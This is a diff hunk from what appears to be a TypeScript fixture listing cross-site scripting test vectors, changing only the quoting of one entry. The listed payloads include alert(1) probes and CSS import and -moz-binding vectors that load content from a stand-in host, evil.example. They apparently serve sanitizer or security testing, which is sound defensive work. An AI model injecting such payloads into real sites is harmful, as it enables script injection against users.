@@ -34,7 +34,7 @@ export const XSS_VECTORS: readonly string[] = [
   '<BR SIZE="&{alert(1)}">',
   '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
   '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
-  '<STYLE>@import\'https://evil.example/xss.css\';</STYLE>',
+  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
   '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
   '<STYLE>BODY{-moz-binding:url("https://evil.example/xss.xml#xss")}</STYLE>',
   '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
